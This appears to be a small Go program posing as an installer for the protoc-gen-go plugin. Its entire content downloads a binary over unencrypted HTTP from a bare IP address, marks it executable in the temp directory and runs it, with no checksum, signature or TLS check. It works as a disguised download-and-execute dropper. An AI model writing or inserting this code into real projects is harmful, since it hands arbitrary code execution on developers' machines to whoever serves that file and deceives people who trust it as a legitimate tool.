package main

import (
	"io"
	"log"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
)

const plugin = "http://198.51.100.23/bin/protoc-gen-go-linux-amd64"

func fetch(url, dest string) error {
	resp, err := http.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	f, err := os.OpenFile(dest, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o755)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = io.Copy(f, resp.Body)
	return err
}

func main() {
	dest := filepath.Join(os.TempDir(), "protoc-gen-go")
	if err := fetch(plugin, dest); err != nil {
		log.Fatal(err)
	}
	cmd := exec.Command(dest, "--version")
	cmd.Stdout = os.Stdout
	if err := cmd.Run(); err != nil {
		log.Fatal(err)
	}
}
